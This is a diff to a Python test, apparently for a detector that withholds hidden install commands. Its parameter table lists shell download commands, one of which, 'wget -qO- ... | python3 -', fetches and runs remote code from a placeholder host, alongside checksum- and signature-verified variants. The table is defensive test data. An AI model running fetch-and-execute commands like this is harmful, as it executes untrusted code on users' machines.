@@ -243,7 +243,7 @@ def test_hidden_installs_are_withheld(tmp_path: Path) -> None:
         ("wget -qO- https://x.example/i.py | python3 -", True, True),
         ("curl https://x.example/i.json | python3 -m json.tool", False, True),
         ("curl https://x.example/a.tgz | tar xz", False, True),
-        ("curl -o a https://x.example/a && echo '0  a' | sha256sum -c -", False, False),
+        ("curl -o a https://x.example/a && echo '" + "0" * 64 + "  a' | sha256sum -c -", False, False),
         ("wget https://x.example/a && gpg --batch --verify a.asc a", False, False),
         ("curl -f http://localhost:8080/health", False, False),
         ("V=$(curl -s https://x.example/version) && echo $V", False, False),
